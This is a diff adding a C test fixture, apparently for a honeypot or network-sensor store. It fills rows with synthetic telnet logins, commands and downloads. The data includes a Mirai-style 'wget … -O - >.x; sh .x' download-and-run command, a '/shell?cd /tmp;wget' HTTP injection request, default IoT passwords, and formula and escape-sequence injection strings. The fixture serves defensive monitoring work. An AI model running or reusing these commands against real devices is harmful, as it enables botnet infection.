@@ -1,0 +1,256 @@
+/* Makes a store of fixed things heard: two spans of the living sensor tokyo-1 and one of osaka-1.
+ *
+ * In:  the folder of the store; a database of countries, or nothing. Out: exit status 1 and a message
+ *      when it cannot be made. Nobody's packets: every row is written here. */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "store/store.h"
+
+enum { DAY = 18444, LIMIT = 64, TEXT_LIMIT = 8192 }; /* 2020-07-01 */
+
+/* The rows of one span while they are put together. */
+struct span {
+    uint8_t bytes[TEXT_LIMIT];
+    size_t used;
+    struct conversation_row conversations[LIMIT];
+    struct payload_row payloads[LIMIT];
+    struct payload_event_row payload_events[LIMIT];
+    struct login_row logins[LIMIT];
+    struct command_row commands[LIMIT];
+    struct download_row downloads[LIMIT];
+    struct event_row events[LIMIT];
+    struct heard_rows rows;
+    size_t event_count;
+    uint32_t hour;
+};
+
+static int64_t at(const struct span *s, uint32_t second)
+{
+    return ((int64_t)DAY * S_PER_DAY + (int64_t)s->hour * S_PER_HOUR + second) * US_PER_S;
+}
+
+static struct talk from(const char *source, uint16_t port)
+{
+    struct ipv4 ipv4;
+    struct talk talk = {.dst = ipv6_of_ipv4((struct ipv4){0xcb007105}), /* 203.0.113.5 */
+                        .src_port = 40000,
+                        .dst_port = port,
+                        .protocol = 6};
+    if (ipv4_parse(source, strlen(source), &ipv4))
+        talk.src = ipv6_of_ipv4(ipv4);
+    else if (!ipv6_parse(source, strlen(source), &talk.src))
+        abort();
+    return talk;
+}
+
+static struct text_ref keep(struct span *s, const char *text, size_t length)
+{
+    struct text_ref ref = {(uint32_t)s->used, (uint32_t)length};
+    if (s->used + length > TEXT_LIMIT)
+        abort();
+    memcpy(s->bytes + s->used, text, length);
+    s->used += length;
+    return ref;
+}
+#define KEEP(s, text) keep(s, text, sizeof(text) - 1)
+
+static void talk_to(struct span *s, uint32_t second, const char *source, uint16_t port,
+                    uint64_t bytes_in, bool two_phase)
+{
+    s->conversations[s->rows.conversation_count++] =
+        (struct conversation_row){.time_us = at(s, second),
+                                  .duration_us = 1500000,
+                                  .probe_gap_us = two_phase ? 2000000 : 0,
+                                  .talk = from(source, port),
+                                  .bytes_in = bytes_in,
+                                  .bytes_out = 21,
+                                  .packets_in = 4,
+                                  .engine = port == 23 ? ENGINE_TELNET : ENGINE_SILENT,
+                                  .end = TALK_END_CLIENT,
+                                  .probe_tool = two_phase ? 1 : 0,
+                                  .two_phase = two_phase};
+}
+
+static void login(struct span *s, uint32_t second, const char *source, struct text_ref user,
+                  struct text_ref password, bool accepted)
+{
+    s->logins[s->rows.login_count++] = (struct login_row){.time_us = at(s, second),
+                                                          .talk = from(source, 23),
+                                                          .user = user,
+                                                          .password = password,
+                                                          .accepted = accepted};
+}
+
+static void command(struct span *s, uint32_t second, const char *source, struct text_ref text,
+                    struct text_ref token)
+{
+    s->commands[s->rows.command_count++] = (struct command_row){
+        .time_us = at(s, second), .talk = from(source, 23), .text = text, .token = token};
+}
+
+static void download(struct span *s, uint32_t second, const char *source, uint16_t port,
+                     enum download_method method, bool host_is_source, const char *const texts[4])
+{
+    s->downloads[s->rows.download_count++] =
+        (struct download_row){.time_us = at(s, second),
+                              .talk = from(source, port),
+                              .url = keep(s, texts[0], strlen(texts[0])),
+                              .host = keep(s, texts[1], strlen(texts[1])),
+                              .file = keep(s, texts[2], strlen(texts[2])),
+                              .cpu = keep(s, texts[3], strlen(texts[3])),
+                              .method = (uint8_t)method,
+                              .host_is_source = host_is_source};
+}
+
+static void content(struct span *s, uint8_t id, struct text_ref bytes, bool cut)
+{
+    struct payload_row row = {.bytes = bytes, .cut = cut};
+    memset(row.id, id, sizeof row.id);
+    s->payloads[s->rows.payload_count++] = row;
+}
+
+static void said(struct span *s, uint32_t second, const char *source, uint16_t port, uint8_t id)
+{
+    struct payload_event_row row = {.time_us = at(s, second), .talk = from(source, port)};
+    memset(row.id, id, sizeof row.id);
+    s->payload_events[s->rows.payload_event_count++] = row;
+}
+
+static void event(struct span *s, uint32_t from_s, uint32_t until_s, enum sensor_event event,
+                  uint64_t packets, const char *detail)
+{
+    struct event_row *row = &s->events[s->event_count++];
+    *row = (struct event_row){.from_us = at(s, from_s),
+                              .until_us = at(s, until_s),
+                              .event = (uint8_t)event,
+                              .packets = packets};
+    snprintf(row->detail, sizeof row->detail, "%s", detail);
+}
+
+#define HTTP_REQUEST                                                                               \
+    "GET /shell?cd+/tmp;wget+http://192.0.2.9/x.sh HTTP/1.1\r\nHost: \"198.51.100.1\"\r\n\r\n"
+static const char *const arm[] = {"http://192.0.2.9/bins/x.arm7", "192.0.2.9", "x.arm7", "arm7"};
+static const char *const script[] = {"http://192.0.2.9/x.sh", "192.0.2.9", "x.sh", ""};
+static const char *const tftp[] = {"tftp://dl.example.net/mips", "dl.example.net", "mips", "mips"};
+static const char *const echo[] = {"", "", ".d", ""};
+
+static void first_span(struct span *s)
+{
+    s->hour = 9;
+    talk_to(s, 10, "192.0.2.9", 23, 120, true);
+    talk_to(s, 20, "198.51.100.7", 23, 60, false);
+    talk_to(s, 30, "198.51.100.7", 5555, 0, false);
+    talk_to(s, 40, "2001:db8::9", 23, 12, true);
+    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, "xc3511"), true);
+    login(s, 21, "198.51.100.7", KEEP(s, "root"), KEEP(s, "xc3511"), false);
+    login(s, 22, "198.51.100.7", KEEP(s, "admin"), KEEP(s, ""), false);
+    login(s, 41, "2001:db8::9", KEEP(s, "\033[31mred"), KEEP(s, "a\0b\xff,\"=1"), false);
+    login(s, 42, "2001:db8::9", KEEP(s, "=cmd()"), KEEP(s, "定点"), false);
+    command(s, 12, "192.0.2.9", KEEP(s, "/bin/busybox ECCHI"), KEEP(s, "ECCHI"));
+    command(s, 13, "192.0.2.9",
+            KEEP(s, "cd /tmp; wget http://192.0.2.9/bins/x.arm7 -O - >.x; sh .x"), KEEP(s, ""));
+    command(s, 23, "198.51.100.7", KEEP(s, "/bin/busybox ECCHI"), KEEP(s, "ECCHI"));
+    download(s, 13, "192.0.2.9", 23, DOWNLOAD_WGET, true, arm);
+    download(s, 31, "198.51.100.7", 80, DOWNLOAD_WGET, false, script);
+    download(s, 14, "192.0.2.9", 23, DOWNLOAD_ECHO, false, echo);
+    content(s, 0xaa, KEEP(s, HTTP_REQUEST), false);
+    content(s, 0xbb, KEEP(s, "\x16\x03\x01\0\\'\xff"), true);
+    said(s, 31, "198.51.100.7", 80, 0xaa);
+    said(s, 32, "2001:db8::9", 8080, 0xaa);
+    said(s, 33, "192.0.2.9", 443, 0xbb);
+    event(s, 0, 0, EVENT_START, 0, "");
+    event(s, 600, 900, EVENT_DISK_FULL, 1234, "no space left on device");
+}
+
+static void second_span(struct span *s)
+{
+    s->hour = 10;
+    talk_to(s, 10, "192.0.2.9", 23, 80, false);
+    login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, "xc3511"), true);
+    download(s, 13, "192.0.2.9", 23, DOWNLOAD_TFTP, false, tftp);
+    content(s, 0xaa, KEEP(s, HTTP_REQUEST), false);
+    said(s, 15, "192.0.2.9", 80, 0xaa);
+    event(s, 100, 100, EVENT_RELOAD, 0, "addresses");
+}
+
+static void other_sensor(struct span *s)
+{
+    s->hour = 12;
+    talk_to(s, 10, "198.51.100.8", 23, 5, false);
+    login(s, 11, "198.51.100.8", KEEP(s, "admin"), KEEP(s, "admin"), false);
+    event(s, 60, 120, EVENT_DISK_FULL, 6, "no space left on device");
+}
+
+static void point_rows(struct span *s)
+{
+    s->rows.day = DAY;
+    s->rows.bytes = s->bytes;
+    s->rows.bytes_count = s->used;
+    s->rows.conversations = s->conversations;
+    s->rows.payloads = s->payloads;
+    s->rows.payload_events = s->payload_events;
+    s->rows.logins = s->logins;
+    s->rows.commands = s->commands;
+    s->rows.downloads = s->downloads;
+}
+
+/* A minute of coverage, and what was heard. */
+static bool write_span(const struct ingest_options *options, struct span *s, struct error *error)
+{
+    struct ingest *ingest = NULL;
+    struct ingest_known known;
+    const uint32_t minute = DAY * 1440 + s->hour * 60;
+    const struct coverage_row live = {
+        .from_minute = minute, .until_minute = minute + 1, .received = 10, .accesses = 10};
+    const struct day_rows packets = {.day = DAY, .coverage = &live, .coverage_count = 1};
+    point_rows(s);
+    if (ingest_begin(options, &ingest, &known, error) != INGEST_NEW)
+        return false;
+    bool good = ingest_add(ingest, &packets, error) && ingest_add_heard(ingest, &s->rows, error) &&
+                ingest_add_events(ingest, DAY, s->events, s->event_count, error) &&
+                ingest_finish(ingest, NULL, 0, true, error);
+    ingest_destroy(ingest);
+    return good;
+}
+
+int main(int argc, char **argv)
+{
+    static struct span span;
+    static const struct {
+        const char *sensor, *key;
+        void (*fill)(struct span *s);
+    } spans[] = {{"tokyo-1", "live-1", first_span},
+                 {"tokyo-1", "live-2", second_span},
+                 {"osaka-1", "live-3", other_sensor}};
+    struct error error = {0};
+    const char *files[] = {argc > 2 ? argv[2] : NULL};
+    const struct geo_options geo_options = {.files = files, .file_count = argc > 2};
+    struct geo *geo = argc > 1 ? geo_create(&geo_options, &error) : NULL;
+    bool good = geo != NULL;
+    for (size_t i = 0; i < sizeof spans / sizeof spans[0] && good; i++) {
+        const struct ingest_options options = {.store = argv[1],
+                                               .sensor = spans[i].sensor,
+                                               .input_name = "live:eth0",
+                                               .input_key = spans[i].key,
+                                               .input_compression = "none",
+                                               .program_version = "teiten test",
+                                               .access_definition = "packets",
+                                               .monitored = "203.0.113.0/24",
+                                               .monitored_digest = "0123456789abcdef",
+                                               .monitored_count = 256,
+                                               .scan_timeout_s = 600,
+                                               .max_silence_s = 3600,
+                                               .limit_bytes = 1 << 20,
+                                               .live = true,
+                                               .geo = geo};
+        memset(&span, 0, sizeof span);
+        spans[i].fill(&span);
+        good = write_span(&options, &span, &error);
+    }
+    geo_destroy(geo);
+    if (!good)
+        fprintf(stderr, "heard_store: %s\n", error.text);
+    return good ? 0 : 1;
+}
